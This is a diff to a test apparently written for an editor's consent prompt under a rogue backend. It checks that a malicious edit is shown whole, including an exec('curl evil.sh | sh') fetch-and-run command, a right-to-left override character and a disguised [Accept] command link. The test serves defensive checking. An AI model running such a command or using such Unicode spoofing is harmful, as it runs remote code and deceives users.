@@ -72,7 +72,7 @@ describe('rogue backend: text the user reads and consents to', () => {
     const { detail } = shownPrompt(0);
     assert.ok(detail.includes("exec('curl evil.sh | sh')<U+202E> // [Accept]\u2009(command\u2009:workbench.action.terminal.new)"), `the payload is not shown whole: ${detail}`);
     assert.ok(detail.includes('"\\n////'), 'the inserted newline is shown as \\n');
-    assert.equal(detail.split('\n').filter((l) => l.startsWith('• Insert')).length, 4, 'all four edits are listed');
+    assert.equal(detail.split('\n').filter((l) => /^• line 1, col \d+: insert "/.test(l)).length, 4, 'all four edits are listed');
     assert.ok(!NOTIFICATION_LINK.test(detail) && !/\u202E/.test(detail));
     await rig.assertHealthy(sockets);
   });
